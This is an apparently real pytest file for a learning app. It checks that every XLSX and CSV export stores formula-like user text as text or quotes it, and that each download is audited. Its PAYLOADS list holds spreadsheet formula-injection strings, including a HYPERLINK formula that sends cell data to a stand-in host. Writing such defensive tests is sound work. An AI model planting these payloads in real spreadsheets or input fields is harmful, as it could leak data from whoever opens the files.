"""Every XLSX/CSV export of the site, downloaded through the web client with formula-like text in
the names, branch names, summaries and questions it carries: no cell is ever a formula, formula-like
text is marked as text (XLSX) or quoted (CSV), and each download leaves an audit entry.

The table EXPORTS lists the exports; `test_every_export_route_is_in_the_table` fails when a route
that sends a spreadsheet is added without a row here (and so without this check)."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import date, time

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from learnapp import audit
from learnapp.audit.models import AuditEntry
from learnapp.db import db
from learnapp.ledger import activities
from learnapp.ledger.models import Category
from learnapp.ledger.schedule import make_schedule
from learnapp.materials import lists
from learnapp.materials.models import ReadingList
from tests.helpers.factories import make_user
from tests.helpers.quizzes import make_category, make_question, opts
from tests.helpers.reports import add_entry, add_quiz_result

PAYLOADS = ['=HYPERLINK("http://x/?"&B2,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_like(text) -> bool:
    return isinstance(text, str) and text.startswith(_TRIGGERS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", text)


@dataclass(frozen=True)
class Export:
    endpoint: str
    url: str                # formatted with the scenario's ids
    kind: str               # "xlsx" or "csv"
    action: str             # the audit action it records
    carries_user_text: bool = True  # False: a fixed template, nothing typed by users in it


EXPORTS = {
    "people": Export("people.export", "/people/export.xlsx", "xlsx", "export.people"),
    "roster_template_xlsx": Export("people.roster_template_xlsx", "/people/import/template.xlsx", "xlsx",
                                   "export.roster_template"),
    "roster_template_csv": Export("people.roster_template_csv", "/people/import/template.csv", "csv",
                                  "export.roster_template", carries_user_text=False),
    "audit": Export("audit.export", "/audit/export.csv", "csv", "export.audit"),
    "sign_in_sheet": Export("ledger.sheet_template", "/ledger/activities/{activity}/sheet.xlsx", "xlsx",
                            "export.sign_in_sheet"),
    "reading_progress": Export("materials.list_progress_csv", "/reading/lists/{reading_list}/progress.csv", "csv",
                               "export.reading_progress"),
    "question_template_xlsx": Export("bank.template", "/bank/template.xlsx", "xlsx", "export.question_template",
                                     carries_user_text=False),
    "question_template_csv": Export("bank.template", "/bank/template.csv", "csv", "export.question_template",
                                    carries_user_text=False),
    "questions_xlsx": Export("bank.export", "/bank/categories/{category}/export/xlsx", "xlsx", "export.questions"),
    "questions_csv": Export("bank.export", "/bank/categories/{category}/export/csv", "csv", "export.questions"),
    "quiz_report": Export("quizzes.report_xlsx", "/quizzes/reports/{quiz}/export.xlsx", "xlsx", "export.quiz_report"),
    "ledger_xlsx": Export("reports.export", "/reports/export.xlsx?year=2026", "xlsx", "export.ledger"),
    "ledger_csv": Export("reports.export", "/reports/export.csv?year=2026", "csv", "export.ledger"),
    # The hostile people are activists without a training contact: findings that carry their names.
    "compliance": Export("development.compliance_export", "/development/compliance.xlsx", "xlsx",
                         "export.compliance"),
    # The committee's and branch_a's names are the hostile text (the default branch is the committee).
    "year_end": Export("yearend.export", "/yearend/export.xlsx?year=2026", "xlsx", "export.year_end"),
    "development_plan": Export("planning.export", "/planning/export.xlsx?year=2026", "xlsx", "export.development_plan"),
}


@pytest.fixture
def hostile(org, clock) -> dict:
    """Formula-like text wherever users can put text that an export carries; the ids the URLs need."""
    org.committee.name = PAYLOADS[0]
    org.branch_a.name = "@SUM(A1)"
    people = []
    for n, payload in enumerate(PAYLOADS):
        person = make_user(org.branch_a, login_id=f"x{n}")
        person.name = payload  # set directly: a typed name is trimmed, a stored one may still hold a tab
        add_entry(person, 300 + n, category=Category.online_reading)
        people.append(person)
    for payload in PAYLOADS:
        audit.record(org.committee_admin, "user.update", people[0], branch=org.branch_a, summary=payload)
    activity = activities.create_activity(org.committee_admin, branch=org.branch_a, category="lecture", title=PAYLOADS[2],
                                          schedule=make_schedule(date(2026, 6, 15), time(9), time(11, 30)))
    reading_list = lists.create_list(org.committee_admin, "hostile-list", lists.ListData(title=PAYLOADS[1], year=2026),
                                     None)
    lists.add_assignment(org.committee_admin, reading_list, org.branch_a, None)
    category = make_category(PAYLOADS[3])
    make_question(category, "single", PAYLOADS[0], options=opts(("A", PAYLOADS[1], 100), ("B", PAYLOADS[2], 0)),
                  explanation=PAYLOADS[4], source=PAYLOADS[3])
    quiz = add_quiz_result(people[0], None, 7000, branch=org.branch_a)
    quiz.title = PAYLOADS[5]
    for person in people[1:]:
        add_quiz_result(person, quiz, 5000)
    db.session.commit()
    assert db.session.scalar(select(ReadingList.id)) == reading_list.id
    return {"activity": activity.id, "reading_list": reading_list.id, "category": category.id, "quiz": quiz.id}


def _download(client, export: Export, ids: dict):
    return client.get(export.url.format(**ids))


def _xlsx_texts(data: bytes) -> list[str]:
    texts = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if _formula_like(cell.value):
                    # Text, and marked so that Excel keeps it text even when the cell is edited.
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_texts(data: bytes) -> list[str]:
    fields = [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for field in row]
    for field in fields:
        assert not _formula_like(field), field
    return [field[1:] if field.startswith("'") else field for field in fields]


def _exports_of(actor_id: int, action: str) -> int:
    return db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action == action,
                                                                     AuditEntry.actor_id == actor_id))


@pytest.mark.parametrize("name", list(EXPORTS))
def test_every_export_writes_text_as_text_and_is_audited(client, login, org, hostile, name):
    export = EXPORTS[name]
    login(org.committee_admin)
    before = _exports_of(org.committee_admin.id, export.action)
    response = _download(client, export, hostile)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    texts = _xlsx_texts(response.data) if export.kind == "xlsx" else _csv_texts(response.data)
    if export.carries_user_text:
        # The hostile text is there (as it was typed), so the checks above had something to check.
        assert set(PAYLOADS) & set(texts), texts[:20]
    assert _exports_of(org.committee_admin.id, export.action) == before + 1


def test_every_export_route_is_in_the_table(app):
    """A route that sends a spreadsheet (its rule ends in .xlsx/.csv or it is an export) must be listed."""
    covered = {export.endpoint for export in EXPORTS.values()}
    spreadsheet_routes = {rule.endpoint for rule in app.url_map.iter_rules()
                          if re.search(r"(\.xlsx|\.csv|xlsx, csv\):\w+>|/export[./]|\.<\w+>$)", rule.rule)}
    assert spreadsheet_routes, "the pattern no longer finds the exports"
    assert spreadsheet_routes <= covered, sorted(spreadsheet_routes - covered)


def test_the_ledger_export_of_the_command_line_is_audited_too(app, org, hostile, tmp_path):
    result = app.test_cli_runner().invoke(args=["report", "hours", "--year", "2026", "--format", "csv",
                                                "-o", str(tmp_path / "hours.csv")])
    assert result.exit_code == 0, result.output
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "export.ledger"))
    assert entry.actor_id is None and entry.details["scope"]["via"] == "cli" and entry.details["scope"]["rows"] >= 6
    _csv_texts((tmp_path / "hours.csv").read_bytes())


def test_the_initial_password_list_writes_text_as_text():
    """The roster import's password list is built in the import's own response (no route of its
    own), through the same writer."""
    from learnapp.accounts.roster_files import passwords_xlsx

    texts = _xlsx_texts(passwords_xlsx([("u1", PAYLOADS[0], "@SUM(A1)", "pw-1")]))
    assert PAYLOADS[0] in texts and "@SUM(A1)" in texts
